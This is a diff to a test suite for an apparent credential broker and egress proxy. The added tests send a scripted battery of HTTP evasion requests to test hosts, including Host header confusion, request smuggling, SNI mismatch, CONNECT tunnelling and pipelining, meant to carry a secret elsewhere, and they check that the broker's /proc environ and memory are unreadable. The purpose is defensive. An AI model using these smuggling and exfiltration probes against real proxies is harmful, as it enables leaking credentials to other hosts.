@@ -96,6 +96,72 @@ for server in sys.argv[1:]:
                 == 14 else "no")
 print(*said)
 """
+# One request after the other, each to be refused; what came back, in a word.
+ATTACK = r"""
+import os, socket, ssl
+context = ssl.create_default_context(cafile=os.environ["SSL_CERT_FILE"])
+def talk(data, host="api.test", name=None, alpn=None):
+    sock = socket.create_connection(("127.0.0.1", 3128), 20)
+    sock.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}:443\r\n\r\n"
+                 .encode())
+    head = sock.recv(4096)
+    if b" 200 " not in head.split(b"\r\n")[0]:
+        return head.split()[1].decode()
+    if alpn:
+        context.set_alpn_protocols(alpn)
+    try:
+        tls = context.wrap_socket(sock, server_hostname=name or host)
+        tls.sendall(data)
+        answer = b""
+        while b"\r\n" not in answer:
+            more = tls.recv(4096)
+            if not more:
+                break
+            answer += more
+        words = answer.split()
+        return words[1].decode() if len(words) > 1 else "closed"
+    except (OSError, ssl.SSLError) as e:
+        return "refused"
+def request(line, *fields):
+    return "\r\n".join((line, *fields, "", "")).encode()
+get = "GET /stolen HTTP/1.1"
+for name, result in (
+    ("control", talk(request("GET /fair HTTP/1.1", "Host: api.test",
+                             "Connection: close"))),
+    ("other-host", talk(request(get, "Host: else.test"))),
+    ("two-hosts", talk(request(get, "Host: api.test", "Host: else.test"))),
+    ("two-hosts-2", talk(request(get, "Host: else.test", "Host: api.test"))),
+    ("no-host", talk(request(get))),
+    ("host-user", talk(request(get, "Host: api.test@else.test"))),
+    ("host-port", talk(request(get, "Host: api.test:8443"))),
+    ("host-blank", talk(request(get, "Host : api.test"))),
+    ("folded", talk(request(get, "Host: api.test", "X: a", " b: c"))),
+    ("absolute", talk(request("GET https://else.test/stolen HTTP/1.1",
+                              "Host: api.test"))),
+    ("absolute-2", talk(request("GET https://else.test/stolen HTTP/1.1",
+                                "Host: else.test"))),
+    ("connect", talk(request("CONNECT else.test:443 HTTP/1.1",
+                             "Host: api.test"))),
+    ("connect-2", talk(request("CONNECT else.test:443 HTTP/1.1",
+                               "Host: else.test:443"))),
+    ("trace", talk(request("TRACE /stolen HTTP/1.1", "Host: api.test"))),
+    ("upgrade", talk(request("GET /fair HTTP/1.1", "Host: api.test",
+                             "Connection: Upgrade",
+                             "Upgrade: h2c", "HTTP2-Settings: AAMAAABk"))),
+    ("smuggled", talk(request("POST /stolen HTTP/1.1", "Host: api.test",
+                              "Content-Length: 4",
+                              "Transfer-Encoding: chunked"))),
+    ("http2", talk(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + bytes(9))),
+    ("http-1.0-keep", talk(request("GET /stolen HTTP/1.0",
+                                   "Host: else.test"))),
+    ("sni", talk(request(get, "Host: api.test"), "else.test", "api.test")),
+    ("sni-2", talk(request(get, "Host: else.test"), "api.test", "else.test")),
+    ("pipelined", talk(request("GET /fair HTTP/1.1", "Host: api.test") +
+                       request(get, "Host: else.test"))),
+    ("h2-only", talk(request(get, "Host: else.test"), alpn=["h2"])),
+):
+    print(name, result)
+"""
 # The needles as they are would be in the search's own memory and text.
 SEARCH = r"""
 import glob, os, subprocess, sys
@@ -676,6 +742,63 @@ PasswordAuthentication no
         self.assertIn("may use the credential forge, api, asked, deploy",
                       whole["profile"]["network"])
         self.site.answer(action["id"], "deny")
+
+    def test_7a_no_request_takes_a_secret_to_another_host(self):
+        d = self.site
+        with open(f"{d.workspace}/attack.py", "w", encoding="ascii") as to:
+            to.write(ATTACK)
+        Service.seen.clear()
+        out = self.done("python3 attack.py")["outcome"]["stdout"]
+        told = dict(line.split(" ", 1) for line in out.splitlines())
+        self.assertEqual(len(told), 22, out)
+        self.assertEqual(told.pop("control"), "200", out)
+        # Passed on as a plain request; nothing is switched.
+        self.assertEqual(told.pop("upgrade"), "200", out)
+        # The first is answered, or both are refused.
+        self.assertIn(told.pop("pipelined"), ("200", "403"), out)
+        for name, result in told.items():
+            self.assertIn(result, ("400", "403", "421", "501", "closed",
+                                   "refused"), (name, out))
+        for host, path, key in Service.seen:
+            if key is not None:
+                self.assertEqual((host, path), ("api.test", "/fair"), out)
+            self.assertNotIn("stolen", path, out)
+
+    def test_7b_no_command_or_route_tells_a_secret(self):
+        d = self.site
+        said = [d.assent("log", *words, "--state", d.state).stdout
+                for words in (("list",), ("report",), ("export",),
+                              ("verify",))]
+        said += [repr(door("GET", path)[1])
+                 for door in (d.agent, d.approver) for path in (
+                     "/v1/credentials", "/v1/actions?state=done",
+                     "/v1/version", "/v1/requirements", "/metrics")]
+        said.append(d.assent("credentials", "test", "--json", "--config",
+                             d.config).stdout)
+        said.append(d.daemon_log())
+        self.assertGreater(sum(map(len, said)), 10000)
+        for text in said:
+            for needle in NEEDLES:
+                self.assertFalse(needle in text, text[:80])
+
+    def test_7c_nobody_else_looks_into_the_broker(self):
+        if not ROOT or not shutil.which("setpriv"):
+            self.skipTest("needs root")
+        broker = self.site.roles()["broker"][0]
+        for name in ("environ", "mem", "maps", "fd", "cwd", "stack",
+                     "map_files"):
+            path = f"/proc/{broker}/{name}"
+            done = subprocess.run(
+                ["setpriv", "--reuid", "65534", "--regid", "65534",
+                 "--clear-groups", "sh", "-c",
+                 f"cat {path} || ls {path}/"], capture_output=True,
+                check=False)
+            self.assertNotEqual(done.returncode, 0, name)
+            self.assertEqual(done.stdout, b"", name)
+        with open(f"/proc/{broker}/status", encoding="ascii") as f:
+            status = f.read()
+        self.assertIn("NoNewPrivs:\t1", status)
+        self.assertIn("Seccomp:\t2", status)
 
     def test_8_nothing_the_daemon_wrote_or_runs_has_a_secret(self):
         d = self.site
